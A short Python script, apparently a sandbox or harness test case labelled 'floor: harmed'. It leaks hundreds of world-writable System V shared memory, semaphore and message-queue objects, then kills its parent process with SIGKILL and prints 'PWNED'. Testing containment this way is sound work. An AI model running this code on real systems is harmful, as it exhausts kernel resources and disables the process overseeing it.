# floor: harmed
# It leaves System V objects and kills those who could remove them.
import ctypes, os
L = ctypes.CDLL(None, use_errno=True)
for _ in range(300):
    L.shmget(0, ctypes.c_size_t(4096), 0o1666)
    L.semget(0, 1, 0o1666)
    L.msgget(0, 0o1666)
try:
    os.kill(os.getppid(), 9)
    print("PWNED")
except OSError:
    pass
